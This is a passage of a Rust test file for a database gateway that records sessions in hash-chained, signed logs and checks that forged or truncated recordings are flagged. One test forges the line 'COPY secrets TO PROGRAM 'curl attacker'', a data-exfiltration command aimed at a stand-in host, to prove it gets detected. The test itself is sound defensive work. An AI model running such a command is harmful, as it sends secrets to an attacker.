    let head = ledger::read_head(&head_path).unwrap().unwrap();
    assert!(head.open.is_empty(), "{:?}", head.open);
    // Nor at any later start: the ledger has it damaged.
    drop(again);
    let again = restart(&s);
    again.shutdown().await;
    assert_eq!(std::fs::read(&rewritten_path).unwrap(), forgery);
}

#[test]
fn events_waiting_for_the_disk_are_bounded_in_bytes_per_session_and_in_all() {
    use std::sync::{Arc, atomic::AtomicUsize, atomic::Ordering};

    use super::{Charge, MAX_INFLIGHT_BYTES, MAX_SESSION_INFLIGHT_BYTES};
    let all = Arc::new(AtomicUsize::new(0));
    let (one, two) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let big = MAX_SESSION_INFLIGHT_BYTES / 2;
    let held = [
        Charge::take(big, &one, &all).unwrap(),
        Charge::take(big, &one, &all).unwrap(),
    ];
    // The session's own budget is spent; another session's is not.
    let e = Charge::take(1, &one, &all).err().unwrap();
    assert!(e.contains("this session has more than 64 MiB"), "{e}");
    let other = Charge::take(big, &two, &all).unwrap();
    // Everyone's budget: sessions together cannot pass it either.
    let mut many = Vec::new();
    let mut refused = None;
    for _ in 0..(MAX_INFLIGHT_BYTES / big + 1) {
        let session = Arc::new(AtomicUsize::new(0));
        match Charge::take(big, &session, &all) {
            Ok(c) => many.push(c),
            Err(e) => {
                refused = Some(e);
                break;
            }
        }
    }
    assert!(
        refused
            .unwrap()
            .contains("more than 256 MiB of events wait")
    );
    // Written (dropped), each gives its bytes back; refused ones took none.
    drop((held, other, many));
    assert_eq!(all.load(Ordering::Relaxed), 0);
    assert_eq!(one.load(Ordering::Relaxed), 0);
}

/// A recording is verified whole, up to files::MAX_RECORDING_BYTES: the
/// writer fails a session whose recording reaches the cap (its later
/// statements are refused), and the recording still ends, sealed, below
/// what verify reads.
#[tokio::test]
async fn a_session_whose_recording_reaches_the_cap_is_failed_and_still_sealed() {
    let dir = tempfile::tempdir().unwrap();
    let s = settings(dir.path());
    let recorder = Recorder::start(&s).unwrap();
    let session = recorder.open(start()).await;
    let id = session.id().to_owned();
    RECORDING_CAP.lock().unwrap().push((id.clone(), 16 << 10));
    for _ in 0..3 {
        session.record(statement(&"x".repeat(4 << 10)));
    }
    recorder.flush().await;
    session.healthy().expect("under the cap");
    for _ in 0..2 {
        session.record(statement(&"x".repeat(4 << 10)));
    }
    recorder.flush().await;
    let why = session.healthy().unwrap_err();
    assert!(
        why.starts_with("the recording reached 0 MiB, the most chokepoint keeps for one session"),
        "{why}"
    );
    // What was in flight, the end and the seal are still written.
    session.record(statement("SELECT 'in flight'"));
    session.close(end());
    recorder.shutdown().await;
    RECORDING_CAP.lock().unwrap().retain(|(s, _)| *s != id);
    let data = std::fs::read(files::find(&s.dir, &id).unwrap()).unwrap();
    let public = keys::read_public(&keys::public_key_path(&s.keys_dir)).unwrap();
    let (verdict, events) = verify::verify(&data, &[public]);
    assert_eq!(verdict, Verdict::Sealed { events: 9 }, "{events:?}");
}

/// Records a session whose start and one statement reach the disk, then
/// stops the gateway with it unsealed: the writer gave up on it (a full
/// disk: `failed`) or, if not `failed`, as a crash leaves it (opened).
/// Either way the gateway holds it to 2 fsynced events. Its id and file.
async fn left_unsealed(s: &RecordingSettings, failed: bool) -> (String, PathBuf) {
    let recorder = restart(s);
    let session = recorder.open(start()).await;
    session.record(statement("DROP TABLE customers"));
    recorder.flush().await;
    let id = session.id().to_owned();
    if failed {
        set_disk_full(&id, true);
        session.record(statement(&"x".repeat(20_000)));
        recorder.flush().await;
        set_disk_full(&id, false);
        assert!(session.healthy().is_err());
    }
    for _ in 0..3 {
        recorder.flush().await;
    }
    let head = ledger::read_head(&ledger::head_path(&s.keys_dir, &s.dir)).unwrap();
    assert_eq!(head.unwrap().open.get(&id).map(|a| a.events), Some(2));
    drop(session);
    recorder.shutdown().await;
    let path = files::find(&s.dir, &id).unwrap();
    (id, path)
}

/// The ledger of `s`'s recordings, as `verify` reads it.
fn ledger_of(s: &RecordingSettings) -> ledger::Ledger {
    let public = keys::read_public(&keys::public_key_path(&s.keys_dir)).unwrap();
    let head = ledger::read_head(&ledger::head_path(&s.keys_dir, &s.dir)).unwrap();
    let listed = ledger::Ledger::read(&s.dir, &[public], head.as_ref())
        .unwrap()
        .unwrap();
    assert_eq!(listed.problem, None);
    listed
}

/// `verify`'s verdict on recording `id` once the gateway has started
/// again (its anchor settled in the ledger).
fn verdict_of(s: &RecordingSettings, id: &str) -> (Verdict, Vec<Event>) {
    let public = keys::read_public(&keys::public_key_path(&s.keys_dir)).unwrap();
    let data = std::fs::read(files::find(&s.dir, id).unwrap()).unwrap();
    let (verdict, events) = verify::verify(&data, &[public]);
    let verdict = verify::against_ledger(
        verdict,
        &verify::Summary::of(&events),
        ledger_of(s).entries.get(id),
        true,
    );
    (verdict, events)
}

/// Found in review: a recording left unsealed (failed, or by a crash)
/// that was emptied, or cut into its first line, before the next start
/// was deleted by recovery and listed `removed`, as retention does: gone
/// without a trace. It held fsynced events, so it is now left as it is
/// and listed `damaged`, which `verify` reports as tampered.
#[tokio::test]
async fn an_emptied_unsealed_recording_is_listed_damaged_not_removed() {
    for (failed, left) in [
        (true, &b""[..]),
        (true, &b"{\"hash\":\"01"[..]),
        (false, &b""[..]),
        (false, &b"{\"hash\":\"01"[..]),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let s = settings(dir.path());
        let (id, path) = left_unsealed(&s, failed).await;
        std::fs::write(&path, left).unwrap();
        restart(&s).shutdown().await;
        let case = format!(
            "failed: {failed}, left: {:?}",
            String::from_utf8_lossy(left)
        );
        assert_eq!(std::fs::read(&path).unwrap(), left, "{case}");
        let entry = &ledger_of(&s).entries[&id];
        assert_eq!(entry.outcome, ledger::Outcome::Damaged, "{case}");
        assert_eq!(entry.anchor().map(|a| a.events), Some(2), "{case}");
        let (verdict, _) = verdict_of(&s, &id);
        assert!(
            matches!(verdict, Verdict::Tampered { .. }),
            "{case}: {verdict:?}"
        );
    }
}

/// Appends to recording `path` a line of `id` chained onto its last,
/// which anyone can compute: no key needed.
fn append_statement(path: &Path, id: &str, text: &str) -> Vec<u8> {
    let mut data = std::fs::read(path).unwrap();
    let last = lines(&data).last().unwrap().clone();
    let (prev, _, _) = chain::split(last.trim_ascii_end()).unwrap();
    let prev = prev.to_owned();
    let e = Event {
        seq: lines(&data).len() as u64,
        session: id.to_owned(),
        wall: "2026-01-01T00:00:00.000000Z".into(),
        mono_us: 5,
        body: statement(text),
    };
    chain::append_line(&mut data, &prev, &serde_json::to_vec(&e).unwrap());
    std::fs::write(path, &data).unwrap();
    data
}

/// Found in review: lines appended to a failed recording were sealed
/// with the host's key at the next start, "as found". The writer never
/// writes a recording again once it gave up on it, so they are a
/// forger's: it is left and listed `damaged`. After a crash, lines past
/// the last fsync may be the gateway's (written, not yet fsynced): those
/// are still sealed, and the seal says how many were not fsynced.
#[tokio::test]
async fn lines_after_a_failed_recordings_anchor_are_not_sealed() {
    let dir = tempfile::tempdir().unwrap();
    let s = settings(dir.path());
    let (id, path) = left_unsealed(&s, true).await;
    let forged = append_statement(&path, &id, "COPY secrets TO PROGRAM 'curl attacker'");
    restart(&s).shutdown().await;
    assert_eq!(
        std::fs::read(&path).unwrap(),
        forged,
        "a line after a failed recording's anchor was sealed"
    );
    let entry = &ledger_of(&s).entries[&id];
    assert_eq!(entry.outcome, ledger::Outcome::Damaged);
    assert_eq!(entry.anchor().map(|a| a.events), Some(2));
    let (verdict, _) = verdict_of(&s, &id);
    assert!(matches!(verdict, Verdict::Tampered { .. }), "{verdict:?}");

    let dir = tempfile::tempdir().unwrap();
    let s = settings(dir.path());
    let (id, path) = left_unsealed(&s, false).await;
    append_statement(&path, &id, "SELECT 'written, not fsynced'");
    restart(&s).shutdown().await;
    assert_eq!(
        ledger_of(&s).entries[&id].outcome,
        ledger::Outcome::Recovered
    );
    let (verdict, events) = verdict_of(&s, &id);
    assert_eq!(verdict, Verdict::Recovered { events: 4 });
    assert!(matches!(
        &events[3].body,
        Body::Seal { recovered: Some(r), .. }
            if r.contains("events from seq 2 on") && r.ends_with(recover::AS_FOUND)
    ));
}

/// A failed recording is held to end exactly at its anchor, so that
/// anchor must be the newest: the `failed` line's, not one a head kept
/// from before the failure (a full disk may keep the head from moving).
/// With the older one, what the writer fsynced last would read as a
/// forgery, and the recording as damaged.
#[tokio::test]
async fn a_failed_line_s_anchor_wins_over_an_older_head() {
    let a = tempfile::tempdir().unwrap();
    let (whole, public) = recorded(a.path()).await;
    let id = session_id(&whole);
    let whole_lines = lines(&std::fs::read(&whole).unwrap());
    let anchor = |n: usize| ledger::Anchor {
        events: n as u64,
        hash: chain::split(whole_lines[n - 1].trim_ascii_end())
            .unwrap()
            .0
            .to_owned(),
    };
    let (_host, dir, key, head) = new_host(a.path());
    let open = || ledger::LedgerWriter::open(&dir, &head, &key).unwrap();
    let (mut ledger, _) = open();
    ledger
        .append(&key, ledger::Outcome::Opened, &id, 0, "")
        .unwrap();
    ledger.set_anchors([(id.clone(), anchor(2))].into());
    ledger.sync().unwrap();
    // The writer fsynced a third event, gave up, and listed it failed;
    // the head never moved past that.
    let failed = anchor(3);
    ledger
        .append(
            &key,
            ledger::Outcome::Failed,
            &id,
            failed.events,
            &failed.hash,
        )
        .unwrap();
    drop(ledger);
    let path = place(&dir, &id, &whole_lines[..3].concat());

    let (mut ledger, known) = open();
    assert_eq!(known.anchors.get(&id), Some(&failed));
    let done = recover::recover(&dir, &key, &mut ledger, &known).unwrap();
    assert_eq!((done.sealed, done.damaged), (1, 0), "{done:?}");
    let data = std::fs::read(&path).unwrap();
    let (verdict, events) = verify::verify(&data, &[public]);
    assert_eq!(verdict, Verdict::Recovered { events: 4 });
    assert!(matches!(
        &events[3].body,
        Body::Seal { recovered: Some(r), .. } if r == recover::REASON
    ));
}

/// The writer lists a recording before it creates the file, so a file
/// is never seen that the ledger does not have yet; one it then cannot
/// create is listed as removed, not left "opened" with no file.
#[tokio::test]
async fn a_recording_is_listed_before_its_file_and_unlisted_if_never_made() {
    let dir = tempfile::tempdir().unwrap();
    let s = settings(dir.path());
    let recorder = Recorder::start(&s).unwrap();
    // This year's folder is a file: no recording can be created.
    let (_, path) = files::new_session(&s.dir);
    let year = path.ancestors().nth(3).unwrap().to_path_buf();
    std::fs::write(&year, b"").unwrap();
    let session = recorder.open(start()).await;
    assert!(session.healthy().is_err());
    recorder.flush().await;
    recorder.shutdown().await;
    drop(recorder);
    std::fs::remove_file(&year).unwrap();
    let data = std::fs::read(s.dir.join(ledger::FILE)).unwrap();
    let outcomes: Vec<ledger::Outcome> = data
        .split_inclusive(|&b| b == b'\n')
        .map(|line| {
            let (_, _, event) = chain::split(line.strip_suffix(b"\n").unwrap()).unwrap();
            serde_json::from_slice::<ledger::Entry>(event).unwrap()
        })
        .filter(|e| e.session == session.id())
        .map(|e| e.outcome)
        .collect();
    assert_eq!(
        outcomes,
        [ledger::Outcome::Opened, ledger::Outcome::Removed]
    );
}

/// A recording sent again to the fleet database: its rows rebuild the
/// file's lines exactly, seal included, in batches that resume where the
/// last stopped; a line that does not chain stops the sending there, and
/// a last line still being written waits for next time.
#[tokio::test]
async fn a_recordings_rows_rebuild_its_lines() {
    let a = tempfile::tempdir().unwrap();
    let (path, _) = recorded(a.path()).await;
    let id = path.file_stem().unwrap().to_str().unwrap().to_owned();
    let data = std::fs::read(&path).unwrap();
    let mut at = sink::Progress::default();
    let mut rows = Vec::new();
    loop {
        let (batch, stop) = sink::read_rows(&path, &id, &mut at, 2, 1 << 20).unwrap();
        rows.extend(batch);
        match stop {
            sink::Stop::Full => {}
            sink::Stop::End => break,
            sink::Stop::Broken(why) => panic!("{why}"),
        }
    }
    assert_eq!(rows.len(), lines(&data).len());
    assert!(rows.iter().enumerate().all(|(i, r)| r.seq == i as i64));
    assert_eq!(rows.last().map(|r| r.kind), Some("seal"));
    assert_eq!(at.offset, data.len() as u64);
    let rebuilt: Vec<u8> = rows
        .iter()
        .flat_map(|r| chain::assemble(&r.hash, &r.prev_hash, r.raw.as_bytes()))
        .collect();
    assert_eq!(rebuilt, data);

    // Torn: the half line is left for next time.
    let mut torn = data.clone();
    torn.extend_from_slice(b"{\"hash\":\"ab");
    std::fs::write(&path, &torn).unwrap();
    let mut again = at.clone();
    let (more, stop) = sink::read_rows(&path, &id, &mut again, 100, 1 << 20).unwrap();
    assert!(more.is_empty() && stop == sink::Stop::End && again == at);

    // Altered: nothing from the changed line on.
    let altered = String::from_utf8(data.clone())
        .unwrap()
        .replacen("SELECT", "DELETE", 1);
    std::fs::write(&path, altered).unwrap();
    let mut from_start = sink::Progress::default();
    let (kept, stop) = sink::read_rows(&path, &id, &mut from_start, 100, 1 << 20).unwrap();
    assert!(kept.len() < rows.len());
    assert!(matches!(stop, sink::Stop::Broken(why) if why.contains("the hash does not match")));

    // Another session's id: not its chain.
    let mut other = sink::Progress::default();
    std::fs::write(&path, &data).unwrap();
    let (none, stop) = sink::read_rows(
        &path,
        "20260101T000000Z-000000000000",
        &mut other,
        100,
        1 << 20,
    )
    .unwrap();
    assert!(none.is_empty());
    assert!(matches!(stop, sink::Stop::Broken(why) if why.contains("belongs to session")));
}

/// A `.jsonl` path given on the command line gets an error that says what
/// is wrong with it (found in review: all read "not a session id").
#[test]
fn a_recording_path_that_is_no_file_is_told_as_such() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("gone.jsonl");
    let e = files::find(dir.path(), missing.to_str().unwrap()).unwrap_err();
    assert!(
        e.starts_with("cannot open") && e.contains("No such file"),
        "{e}"
    );
    let folder = dir.path().join("folder.jsonl");
    std::fs::create_dir(&folder).unwrap();
    let e = files::find(dir.path(), folder.to_str().unwrap()).unwrap_err();
    assert!(
        e.ends_with("is not a regular file: name the recording itself"),
        "{e}"
    );
}
